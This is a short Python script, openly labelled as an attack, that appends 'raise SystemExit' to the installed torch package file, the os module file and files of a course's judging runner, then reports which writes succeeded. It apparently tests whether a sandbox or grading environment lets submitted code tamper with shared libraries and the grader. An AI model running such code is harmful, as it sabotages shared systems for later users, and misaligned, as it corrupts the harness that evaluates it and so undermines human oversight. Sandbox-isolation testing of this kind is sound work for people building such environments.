# attack: changes a library for everyone who comes after
import torch
for path in (torch.__file__, __import__("os").__file__, "/course/course_utils/judging/runner.py", "/course/course_utils/__init__.py"):
    try:
        open(path, "a").write("\nraise SystemExit\n")
        print("WROTE", path)
    except OSError as error:
        print("REFUSED", error)
